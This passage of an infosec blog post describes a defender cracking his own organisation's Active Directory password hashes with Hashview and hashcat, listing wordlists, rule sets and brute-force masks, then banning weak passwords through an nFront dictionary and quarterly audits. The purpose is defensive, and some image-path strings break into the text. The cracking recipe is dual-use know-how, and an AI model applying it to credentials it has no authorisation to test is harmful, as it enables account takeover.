Wordlists I went with were, of course, rockyou.txt from Kali box. Also read g0tm1lk’s article wordlists for some great context, and grabbed the 18_in_1 wordlist. You’ll also want to start a special wordlist specific to your organization; we’ve taken to grabbing cewl results (via a little helper) from our websites (internal and external)  and referencing our known wordlists from previous redteam exercises.Dictionary rules are also pretty interesting to read up on. _NSAKEY’s writeup was a good overview. I ended up selecting best64 (comes installed with Hashview) with dictionaries, then d3ad0ne’s ruleset through the dictionaries. Depending on my percentage cracked and time I want to spend, I’ll cancel or keep running.

Cool thing about Hashview is you can queue tasks in your order, starting easy to most time intensive. Also, Hashview by design lets you start/stop your cracking if you need to reboot, power goes out, or you spill a brewski on it.

Last tidbit is the ol’ bruteforce with hashcat masks. Hashview comes with a 7 character lower alpha bruteforce mask. But what if you want to beyond that? Well looks like this below in Hashview:

We could do 8 chars no specials in 2-3 days, and 8 chars with specials in a week.  Going above that starts to exponentially ratchet up the time. But this was enough to scare IT leadership to move forward with pushing a higher character requirement, so we’ll be visiting going above 8 in the near future.

What’s NextSo now you’ve got some cracked passwords, and are utterly horrified at how bad some people’s passwords are. This shined great light on the need to have a password dictionary solution in the organization. We’d received several pentest reports about our easily cracked passwords, and so we purchased nFront’s solution which was a breeze to install.  Check out their demo videos, good stuff. O365 and Azure AD still needs to be tackled for us (more to come on  this) but this’ll work for on-prem as we’re keeping our domain controllers. We easily converted our existing AD password policy into nFront, added the 2+ consecutive character limitation, and tacked on the dictionary option. We went with our own custom dictionary, targeting 500 words at first (so not to incite mass enduser riots). Easy ones first: geo-specific words go in, business units, all the naughty words, password/sesame/etc. Just remember when audit time comes around, you’ll need to pull the nFront GPO instead of your normal default domain GPO (it works on a “take the most restrictive” model).Feedback Loop

With that baseline, we can institute a closed loop system, cracking domain passwords and taking the top 10 (or X, your pick) passwords and building a prohibited wordlist. I had known about terrible passwords like Welcome01 or Spring2017 going into this, buteyes were open! We even found a whole department that shared the same base word that we never would have guessed! So all of that got tossed into our password dictionary, and we wait for the password rotations to alter password selection choice.

Our idea now is to do this every quarter (which ensures everyone gets one password expiration rotation in), and continuously audit our password stance. This will give us quantitative analysis to see the trends: find additional key choice words which should be prohibited, evaluate if security training around passwords (we’re pushing passphrases with spaces) is effective or needs to be tweaked, feedback the terrible passwords into red team wordlists to see if non-AD passwords are terrible (I’m looking at you Linux, network, and application based creds). I’ll post a comparative blog post when the data becomes available.

Let me know if you found this useful, are havingsimilar success in your organization, or just want to talk infosec.Hit me up on the Mastadon @sp3nx0r.